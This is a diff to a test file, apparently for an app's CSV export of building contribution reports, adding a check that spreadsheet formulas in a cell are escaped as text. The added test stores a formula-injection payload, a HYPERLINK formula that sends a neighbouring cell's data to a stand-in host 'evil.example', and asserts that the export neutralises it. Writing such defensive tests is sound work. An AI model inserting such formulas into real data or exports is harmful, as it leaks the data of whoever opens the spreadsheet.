@@ -225,6 +225,13 @@ describe('the contributions lost to suspension', () => {
     const uz = await boardCsv('');
     expect(uz[0]!.startsWith('Bino identifikatori,Manzil,')).toBe(true);
     expect(uz[1]).toContain(',Hisobot berilmagan,');
+    // What a spreadsheet would run as a formula comes out as text (api/csv.ts), in any cell.
+    const attack = '=HYPERLINK("http://evil.example/?d="&A2,"Manzil")';
+    await orm.em.fork().execute('update building set address = ? where id = ?', [attack, lost.buildingId]);
+    const [, escaped] = await boardCsv('&lang=en');
+    expect(
+      escaped!.startsWith(`${lost.buildingId},"'=HYPERLINK(""http://evil.example/?d=""&A2,""Manzil"")",`),
+    ).toBe(true);
 
     // A building of another district with a report in time lost nothing.
     const others = await ok<{ items: { lostTiyin: number; lostMonths: unknown[] }[] }>(
